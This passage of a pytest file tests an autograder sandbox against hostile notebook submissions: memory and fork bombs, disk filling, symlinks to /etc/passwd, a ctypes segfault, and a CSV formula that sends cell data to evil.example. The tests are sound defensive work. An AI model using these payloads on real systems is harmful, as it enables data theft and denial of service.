    out, rss = _max_rss_mb_of("from autograder.grading import grade_notebook\n"
                              "print(grade_notebook(sys.argv[2])['output'])", path)
    assert "JSON values" in out and "delete the extra cells" in out
    assert rss < 400, f"the grader grew to {rss:.0f} MB"


def test_flooding_the_result_channel_is_bounded(tmp_path):
    """Issue input: 31 MB of small JSON objects written to the result channel grew the grader to 900 MB.
    The channel is read up to a fixed size and parsed line by line with bounds: the grader stays small,
    and the attacked exercise scores 0 with a message naming the channel."""
    source = ("import os\n"
              "def forward_propagation(x, theta):\n"
              "    junk = b'[' + b'{},' * 300_000 + b'{}]\\n'\n"
              "    for _ in range(35):\n"
              "        for fd in range(3, 12):\n"
              "            try:\n                os.write(fd, junk)\n"
              "            except OSError:\n                pass\n"
              "    return theta * x\n")
    sub = hostile_submission(tmp_path, source)
    out, rss = _max_rss_mb_of("import json\nfrom autograder.grading import grade_notebook\n"
                              "from tests.test_autograder_support import fast_options, one_exercise_spec\n"
                              "r = grade_notebook(sys.argv[2], fast_options(specs=one_exercise_spec(), wall=30.0))\n"
                              "print(json.dumps(r))", sub)
    results = json.loads(out.splitlines()[0])
    assert results["score"] == 0.0 and "result channel" in results["tests"][0]["output"]
    assert rss < 400, f"the grader grew to {rss:.0f} MB"


@pytest.fixture(params=["cgroup", "no-cgroup"])
def cgroups(request, monkeypatch):
    """With a control group when this machine allows one, and without (AUTOGRADER_CGROUPS=0)."""
    monkeypatch.setenv("AUTOGRADER_CGROUPS", "1" if request.param == "cgroup" else "0")
    return request.param


@ROOT_ONLY
def test_memory_and_processes_are_bounded_per_submission(cgroups):
    """Issue input: eight children of 400 MB each held 3.2 GB at once (the limit was per process). With a
    control group the submission's processes share one memory limit; without one, the process limit is
    lowered so that processes x memory stays bounded."""
    # Each child holds its 400 MB until every child has either said "held" or died (the kernel's OOM
    # killer, under a control group), then all are released: they coexist, and the run ends on that
    # condition, not at the wall limit.
    source = ("import os, select\n"
              "ready_r, ready_w = os.pipe()\n"
              "release_r, release_w = os.pipe()\n"
              "kids = []\n"
              "for _ in range(8):\n"
              "    pid = os.fork()\n"
              "    if pid == 0:\n"
              "        os.close(release_w)  # so that the parent's close (or death) is the release\n"
              "        hog = bytearray(400 * 2**20)\n"
              "        for i in range(0, len(hog), 4096):\n            hog[i] = 1\n"
              "        os.write(1, b'held\\n')\n"
              "        os.write(ready_w, b'x')\n"
              "        os.read(release_r, 1)\n"
              "        os._exit(0)\n"
              "    kids.append(pid)\n"
              "held, dead = 0, set()\n"
              "while held + len(dead) < len(kids):\n"
              "    if select.select([ready_r], [], [], 0.05)[0]:\n"
              "        held += len(os.read(ready_r, 64))\n"
              "    for pid in kids:\n"
              "        if pid not in dead and os.waitpid(pid, os.WNOHANG)[0] == pid:\n"
              "            dead.add(pid)\n"
              "os.close(release_w)\n"
              "for pid in kids:\n"
              "    if pid not in dead:\n        os.waitpid(pid, 0)\n" + GOOD)
    result, sandbox = _sandbox_run(source, wall=60.0, memory_mb=1024)
    if sandbox.cgroup_used:
        # all processes together never held more than the limit (the kernel kills one to stay under it)
        assert result.memory_peak_mb is not None and result.memory_peak_mb <= 1024 * 1.02
        assert result.student_output.count("held") < 8  # the shared limit stopped some of them
    else:
        assert cgroups == "no-cgroup" or not sandbox.as_root
        assert result.protections["processes"] == Limits().processes_without_cgroup
        assert result.student_output.count("held") < 8  # the process limit stopped the forks
    assert result.leftover_processes == []


@NEEDS_NAMESPACES
def test_disk_is_bounded_per_submission(tmp_path):
    """Issue input: one exercise wrote 2 GB in 12 s (only each file was capped). The work folder is a
    tmpfs of fixed size: writing stops at its size, and the other exercise-level limits still apply."""
    source = ("written = 0\n"
              "try:\n"
              "    for i in range(256):\n"
              "        with open(f'blob{i}', 'wb') as f:\n"
              "            for _ in range(8):\n"
              "                f.write(b'x' * 2**20)\n"
              "                written += 1\n"
              "except OSError as e:\n    print('stopped', type(e).__name__)\n"
              "print('MB', written)\n" + GOOD)
    result, sandbox = _sandbox_run(source)
    written = int(result.student_output.split("MB ", 1)[1].split()[0])
    assert "stopped OSError" in result.student_output and written <= sandbox.limits.disk_mb


def test_batch_results_names_never_collide(tmp_path):
    """Issue input: `a b.ipynb` and `a__b.ipynb`, `sub/x.ipynb` and `sub__x.ipynb` shared results files."""
    folder = tmp_path / "subs"
    (folder / "sub").mkdir(parents=True)
    names = ["a b.ipynb", "a__b.ipynb", "sub/x.ipynb", "sub__x.ipynb", "a%20b.ipynb"]
    for i, name in enumerate(names):
        hostile_submission(folder, f"def forward_propagation(x, theta):\n    return theta * x + {i}\n", name)
    assert len({results_name(folder / n, folder) for n in names}) == len(names)
    # the class report's own class-report.json is written beside them: no submission's results may be it
    clash = ["class-report.ipynb", "Class-Report.ipynb", "class%2Dreport.ipynb", "sub/class-report.ipynb"]
    escaped = [results_name(folder / n, folder) for n in clash]
    assert escaped == ["class%2Dreport.json", "Class%2DReport.json", "class%252Dreport.json",
                       "sub%2Fclass-report.json"]
    assert not {e.lower() for e in escaped} & {f.lower() for f in REPORT_FILES}
    graded = grade_directory(folder, tmp_path / "out", fast_options(specs=one_exercise_spec(), wall=ROOMY))
    files = sorted(p.name for p in (tmp_path / "out").glob("*.json") if p.name not in REPORT_FILES)
    assert len(files) == len(names) == len(graded)
    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
    assert sorted(r["submission"] for r in rows) == sorted(names)


def test_a_file_name_that_is_not_utf8_gets_its_own_row(tmp_path):
    """Issue input: a file name that is not valid UTF-8 (unzipped LMS exports) made the gradebook raise."""
    folder = tmp_path / "subs"
    folder.mkdir()
    odd = os.fsdecode(b"m\xfcller_caf\xe9.ipynb")
    hostile_submission(folder, GOOD, odd)
    hostile_submission(folder, GOOD, "zed.ipynb")
    done = subprocess.run([sys.executable, "-m", "autograder", "batch", str(folder), "--results-dir",
                           str(tmp_path / "out"), "--timeout", str(ROOMY)], cwd=ROOT, capture_output=True,
                          timeout=600)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
    assert sorted(r["submission"] for r in rows) == ["m\\xfcller_caf\\xe9.ipynb", "zed.ipynb"]
    assert len([p for p in (tmp_path / "out").glob("*.json") if p.name not in REPORT_FILES]) == 2


def test_links_in_a_submissions_folder_are_rows_not_grades(tmp_path):
    """Issue input: a link named answer_key.ipynb to a master was graded 4/4; links to system files were
    read. Links are never followed: each is its own row saying so, with 0 points."""
    folder = tmp_path / "subs"
    folder.mkdir()
    master = ROOT / "notebooks" / "source" / "01_gradient_check_1d.ipynb"
    (folder / "answer_key.ipynb").symlink_to(master)
    (folder / "passwd.ipynb").symlink_to("/etc/passwd")
    (folder / "linked_dir").symlink_to(tmp_path)
    os.mkfifo(folder / "pipe.ipynb")
    submission_01(folder, "honest.ipynb")
    graded = {p.name: r for p, r in grade_directory(folder, tmp_path / "out", fast_options(wall=ROOMY))}
    assert sorted(graded) == ["answer_key.ipynb", "honest.ipynb", "passwd.ipynb", "pipe.ipynb"]
    for name in ("answer_key.ipynb", "passwd.ipynb"):
        assert graded[name]["score"] == 0.0 and "symbolic link" in graded[name]["output"]
    assert "not a regular file" in graded["pipe.ipynb"]["output"]
    assert graded["honest.ipynb"]["score"] == 4.0
    assert "root:" not in (tmp_path / "out" / "passwd.json").read_text()


def test_gradebook_cells_cannot_be_spreadsheet_formulas(tmp_path):
    """Issue input: a notebook id `=HYPERLINK(...)` was written as it is into gradebook.csv."""
    folder = tmp_path / "subs"
    folder.mkdir()
    nb = make_notebook('=HYPERLINK("http://evil.example/?"&A1,"click")', "import numpy as np\n",
                       {"f": "def f():\n    return 1\n"})
    write_notebook(nb, folder / "formula.ipynb")
    hostile_submission(folder, GOOD, "+cmd.ipynb")
    hostile_submission(folder, GOOD, "@sum.ipynb")
    grade_directory(folder, tmp_path / "out", fast_options(specs=one_exercise_spec(), wall=ROOMY))
    rows = list(csv.reader((tmp_path / "out" / "gradebook.csv").open(encoding="utf-8")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in "".join(cells) and "'+cmd.ipynb" in cells and "'@sum.ipynb" in cells


def test_interpreter_crash_gets_a_message_a_student_can_act_on(tmp_path):
    """Issue input: a crash (ctypes; deep recursion) read "stopped by signal 11"."""
    source = ("import ctypes\n"
              "def forward_propagation(x, theta):\n    return ctypes.string_at(0)\n")
    results, output = grade_hostile(tmp_path, source, wall=ROOMY)
    assert results["score"] == 0.0
    assert "the Python interpreter crashed" in output and "segmentation fault" in output
    assert "recursion" in output and "signal 11" not in output and outcome(results) == "crash"


def test_nbformat_3_notebook_is_converted_and_graded(tmp_path):
    """Issue input: a valid nbformat 3 notebook read "not a Jupyter notebook"; it is converted and graded."""
    nb = make_notebook("01_gradient_check_1d", SETUP_01, dict(CORRECT_01))
    old = nbformat.convert(nb, 3)
    path = tmp_path / "old.ipynb"
    path.write_text(nbformat.writes(old, version=3))
    assert json.loads(path.read_text())["nbformat"] == 3
    results = grade_notebook(path, fast_options(wall=ROOMY))
    assert results["score"] == 4.0


def test_older_notebook_formats_say_how_to_re_save(tmp_path):
    """nbformat 1 and 2 cannot be converted: the message says what it is and how to re-save it."""
    path = tmp_path / "ancient.ipynb"
    path.write_text(json.dumps({"nbformat": 2, "worksheets": [{"cells": []}], "metadata": {}}))
    results = grade_notebook(path, fast_options())
    assert results["score"] == 0.0
    assert "old notebook (nbformat 2)" in results["output"] and "File > Save" in results["output"]


def test_one_latin1_byte_is_replaced_and_the_notebook_graded(tmp_path):
    """Issue input: one Latin-1 byte read "is it an image, a PDF or a zip?". The byte is replaced, the
    notebook graded, and a note says what happened and how to avoid it."""
    answers = dict(CORRECT_01, forward_propagation="# cafe\ndef forward_propagation(x, theta):\n    return theta * x\n")
    path = write_notebook(make_notebook("01_gradient_check_1d", SETUP_01, answers), tmp_path / "x.ipynb")
    path.write_bytes(path.read_bytes().replace(b"# cafe", b"# caf\xe9"))
    results = grade_notebook(path, fast_options(wall=ROOMY))
    assert results["score"] == 4.0
    assert "not UTF-8" in results["output"] and "save the notebook from jupyter" in results["output"].lower()


@pytest.mark.parametrize("content, words", [
    (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG image"),
    (b"%PDF-1.7\n\xe2\xe3", "PDF document"),
    (b"\xff\xfe{\x00", "UTF-16"),
])
def test_binary_files_are_named(tmp_path, content, words):
    """Images, PDFs and UTF-16 text get a message naming what they are."""
    path = tmp_path / "x.ipynb"
    path.write_bytes(content)
    results = grade_notebook(path, fast_options())
    assert results["score"] == 0.0 and words in results["output"]


def test_work_on_notebook_01_labelled_03_names_the_mix_up(tmp_path):
    """Issue input: the work of notebook 01 labelled 03 read "was the exercise cell deleted?"."""
    nb = make_notebook("03_bug_hunt", SETUP_01, dict(CORRECT_01))
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert_gradescope_schema(results)
    assert results["score"] == 0.0
    assert "holds the exercises of 01_gradient_check_1d" in results["output"]
    assert "wrong" in results["output"] and "deleted" not in results["output"]
    assert all("01_gradient_check_1d" in t["output"] for t in results["tests"])


def test_huge_notebook_id_is_not_echoed(tmp_path):
    """Issue input: a 20 MB notebook id was echoed whole into the results."""
    nb = make_notebook("x" * 20_000_000, "import numpy as np\n", {"f": "def f():\n    return 1\n"})
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"), fast_options())
    assert results["score"] == 0.0 and "20,000,000 characters" in results["output"]
    assert len(json.dumps(results)) < 10_000


def test_huge_grade_id_and_cell_label_are_cut(tmp_path):
    """A 1 MB grade_id on the setup cell never reaches feedback whole."""
    nb = make_notebook("99_hostile", "raise ValueError('setup broke')\n", {"forward_propagation": GOOD})
    nb.cells[1].metadata["nbgrader"]["grade_id"] = "s" * 1_000_000
    results = grade_notebook(write_notebook(nb, tmp_path / "x.ipynb"),
                             fast_options(specs=one_exercise_spec(), wall=ROOMY))
    assert len(json.dumps(results)) < 20_000


@pytest.fixture(params=["fork-server", "fresh-process"])
def start_mode(request, monkeypatch):
    """Each way a worker is started: forked from the fork server, or as a new process."""
    monkeypatch.setenv("AUTOGRADER_FORKSERVER", "1" if request.param == "fork-server" else "0")
    return request.param


@pytest.mark.parametrize("isolate", MODES)
def test_both_start_paths_isolate_alike(tmp_path, start_mode, isolate):
    """Forked or freshly started, a worker runs as a sandbox uid with no new privileges, sees its own root
    (with namespaces), reports a crash as a crash and a stall past the time limit as a timeout, and leaves
    nothing behind."""
    probe = ("import os\nprint('uid', os.getuid())\n"
             "print([l.split()[1] for l in open('/proc/self/status') if l.startswith('NoNewPrivs')])\n"
             f"print('project holds', sorted(os.listdir({str(ROOT)!r})))\n" + GOOD)
    result, _ = _sandbox_run(probe, isolate=isolate)
    assert result.status == "finished" and "['1']" in result.student_output
    assert UID_BASE <= int(result.student_output.split("uid ", 1)[1].split()[0]) < UID_BASE + UID_COUNT
    if isolate is None:  # only what the worker needs of the project is there (Python env, library)
        shown = result.student_output.split("project holds ", 1)[1].splitlines()[0]
        assert "autograder" not in shown and "notebooks" not in shown and "tests" not in shown
    crash, _ = _sandbox_run("import ctypes\ndef forward_propagation(x, theta):\n    return ctypes.string_at(0)\n",
                            isolate=isolate)
    assert crash.returncode == -11 and crash.leftover_processes == []
    # a stall that sleeps: the wall limit is what is tested here (the busy loops have their own tests
    # above), and four runs of a loop burning a core for 2 s would take that CPU from the rest of the suite.
    # It ends after 10 s, so a broken wall limit fails this test ("finished") instead of hanging it.
    stall, _ = _sandbox_run("import time\ndef forward_propagation(x, theta):\n    for _ in range(200):\n"
                            "        time.sleep(0.05)\n    return theta * x\n", isolate=isolate, wall=2.0)
    assert stall.status == "timeout" and stall.leftover_processes == []
